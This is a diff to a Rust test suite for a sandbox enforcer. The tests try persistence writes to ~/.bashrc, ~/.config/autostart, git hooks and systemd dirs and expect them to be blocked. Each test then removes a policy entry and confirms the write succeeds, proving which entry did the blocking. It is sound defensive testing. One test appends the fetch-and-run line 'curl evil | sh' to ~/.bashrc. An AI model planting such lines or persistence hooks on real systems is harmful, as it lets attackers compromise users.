@@ -1144,11 +1144,20 @@ fn writes_the_users_file_in_dev_shm() {
     let f = PathBuf::from(format!("/dev/shm/rt-app-{}", uniq()));
     c.add(&f);
     ufile(f.to_str().unwrap(), "state");
-    let red = Red::start("shm");
+    let mut red = Red::start("shm");
     assert_eq!(outside(&[Op::Write(f.clone())]), vec![0]);
     assert_eq!(
         red.attack(&[Op::Write(f.clone()), Op::Unlink(f.clone())]),
         vec![EACCES, EACCES]
+    );
+    // Without the root entry of /dev/shm the walk meets no root: it is the check.
+    red.enforcer
+        .remove_root_id(ObjectId::of_path(Path::new("/dev/shm")).unwrap())
+        .unwrap();
+    assert_eq!(
+        red.attack(&[Op::Write(f.clone())]),
+        vec![0],
+        "the /dev/shm root was the check"
     );
 }
 
@@ -1161,11 +1170,19 @@ fn writes_the_users_runtime_dir_present_at_start() {
     assert!(!run.exists(), "another test left /run/user/1000");
     c.add(&run);
     let f = ufile("/run/user/1000/app/state.json", "{}");
-    let red = Red::start("runuser");
+    let mut red = Red::start("runuser");
     assert_eq!(outside(&[Op::Write(f.clone())]), vec![0]);
     assert_eq!(
         red.attack(&[Op::Write(f.clone()), Op::Create(run.join("app/new"))]),
         vec![EACCES, EACCES]
+    );
+    red.enforcer
+        .remove_root_id(ObjectId::of_path(&run).unwrap())
+        .unwrap();
+    assert_eq!(
+        red.attack(&[Op::Write(f.clone())]),
+        vec![0],
+        "the /run/user/1000 root was the check"
     );
 }
 
@@ -1325,6 +1342,21 @@ fn moves_a_never_place_itself_away() {
     let r = red.gated(|| vec![rename(&user, &config.join("systemd/user.old"))]);
     assert_eq!(r, vec![EACCES]);
     assert!(user.exists());
+    let sd = config.join("systemd");
+    red.enforcer
+        .remove_never(ObjectId::of_path(&user).unwrap())
+        .unwrap();
+    red.enforcer
+        .remove_never_name(
+            ObjectId::of_path(&sd).unwrap(),
+            std::ffi::OsStr::new("user"),
+        )
+        .unwrap();
+    assert_eq!(
+        red.gated(|| vec![rename(&user, &sd.join("user.old"))]),
+        vec![0],
+        "the never entries were the check"
+    );
 }
 
 /// Plants a symlink at the missing never place `~/.config/autostart`, pointing into a
@@ -1355,6 +1387,19 @@ fn symlinks_a_missing_never_place_to_its_own_directory() {
     });
     assert_eq!(r, vec![0, EACCES]);
     assert!(std::fs::symlink_metadata(&auto).is_err());
+    red.enforcer
+        .remove_never_name(
+            ObjectId::of_path(&config).unwrap(),
+            std::ffi::OsStr::new("autostart"),
+        )
+        .unwrap();
+    // SAFETY: symlink on valid C strings.
+    let r = red.gated(|| {
+        vec![rc(unsafe {
+            libc::symlink(cpath(&scratch.join("auto")).as_ptr(), cpath(&auto).as_ptr())
+        } as i64)]
+    });
+    assert_eq!(r, vec![0], "the reserved name was the check");
 }
 
 /// Renames a tree the session prepared (in a directory it made inside its workspace) into
@@ -1399,6 +1444,17 @@ fn renames_a_prepared_tree_into_a_missing_never_place() {
         "the tree was renamed into ~/.config/autostart"
     );
     assert!(!auto.exists());
+    red.enforcer
+        .remove_never_name(
+            ObjectId::of_path(&config).unwrap(),
+            std::ffi::OsStr::new("autostart"),
+        )
+        .unwrap();
+    assert_eq!(
+        red.gated(|| vec![rename(&build.join("autostart"), &auto)]),
+        vec![0],
+        "the reserved name was the check"
+    );
 }
 
 /// One never-list route: `setup` prepares the user's files (paths to clean up), `grant`
@@ -1721,13 +1777,30 @@ fn plants_python_usercustomize() {
 /// never bits). The control for the name routes above.
 #[test]
 fn appends_to_bashrc_despite_a_grant() {
-    name_route(
-        "bashrc",
-        &[],
-        &[(".bashrc", "# mine\n")],
-        Some((".bashrc", Scope::Exact, &[Access::Write])),
-        ".bashrc",
-        false,
+    let mut c = Cleanup::default();
+    let rc_file = PathBuf::from(home(".bashrc"));
+    assert!(!rc_file.exists(), "another test left ~/.bashrc");
+    c.add(&rc_file);
+    ufile(rc_file.to_str().unwrap(), "# mine\n");
+    let mut red = Red::start("bashrc");
+    red.grant(&rc_file, Scope::Exact, &[Access::Write]);
+    assert_eq!(
+        red.gated(|| vec![append(&rc_file, "curl evil | sh\n")]),
+        vec![EACCES],
+        "~/.bashrc despite a write grant"
+    );
+    // Without its never entries (object and name) the grant opens it: they are the check.
+    let home_id = ObjectId::of_path(Path::new(HOME)).unwrap();
+    red.enforcer
+        .remove_never(ObjectId::of_path(&rc_file).unwrap())
+        .unwrap();
+    red.enforcer
+        .remove_never_name(home_id, std::ffi::OsStr::new(".bashrc"))
+        .unwrap();
+    assert_eq!(
+        red.gated(|| vec![append(&rc_file, "# ablation\n")]),
+        vec![0],
+        "the never entries were the check"
     );
 }
 
@@ -1884,13 +1957,25 @@ fn connects_to_the_users_service_via_an_address_added_after_the_daemon_started()
 fn connects_to_the_users_service_via_the_hosts_interface_address() {
     let a = Ipv4Addr::new(198, 18, 78, 8);
     let _addr = HostAddress::add(a);
-    let red = Red::start("hostaddr");
+    let mut red = Red::start("hostaddr");
     let p = port();
     let _svc = Service::start(IpAddr::V4(Ipv4Addr::UNSPECIFIED), p, SECRET);
     assert_eq!(ungated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]), vec![0]);
     assert_eq!(
         red.gated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]),
         vec![EACCES]
+    );
+    // Without the address in MAP_HOST_ADDRS it counts as remote: that lookup is the check.
+    let rest: Vec<IpAddr> = pincer::kernel::host_addresses()
+        .unwrap()
+        .into_iter()
+        .filter(|x| *x != IpAddr::V4(a))
+        .collect();
+    red.enforcer.set_host_addresses(&rest).unwrap();
+    assert_eq!(
+        red.gated(|| vec![fetch(IpAddr::V4(a), p, SECRET)]),
+        vec![0],
+        "MAP_HOST_ADDRS was the check"
     );
 }
 
@@ -1992,6 +2077,9 @@ fn reopens_a_read_granted_file_for_write_through_proc_self_fd() {
     let r = red.gated(|| reopen_for_write(&f, "// evil\n"));
     assert_eq!(r, vec![EACCES, EACCES]);
     assert!(!std::fs::read_to_string(&f).unwrap().contains("evil"));
+    // With a write grant the same reopen works: the write check of `file_open` is the check.
+    red.grant(&f, Scope::Exact, &[Access::Write]);
+    assert_eq!(red.gated(|| reopen_for_write(&f, "")), vec![0, 0]);
 }
 
 /// Hard-links the user's private key into a directory the session made (its own, where it
@@ -2084,6 +2172,26 @@ fn creates_a_hook_in_a_repository_present_at_session_start() {
         ]
     });
     assert_eq!(r, vec![EACCES, EACCES]);
+    // Without the never entries the scan made, the grant opens both: they are the check.
+    let git = repo.join(".git");
+    red.enforcer
+        .remove_never(ObjectId::of_path(&git.join("hooks")).unwrap())
+        .unwrap();
+    red.enforcer
+        .remove_never(ObjectId::of_path(&config).unwrap())
+        .unwrap();
+    red.enforcer
+        .remove_never_name(
+            ObjectId::of_path(&git).unwrap(),
+            std::ffi::OsStr::new("config"),
+        )
+        .unwrap();
+    red.enforcer.renew_policy().unwrap();
+    assert_eq!(
+        red.gated(|| vec![create(&hook, "#!/bin/sh\n"), append(&config, "\n")]),
+        vec![0, 0],
+        "the never entries were the check"
+    );
 }
 
 // ---------------------------------------------------------------------------------------
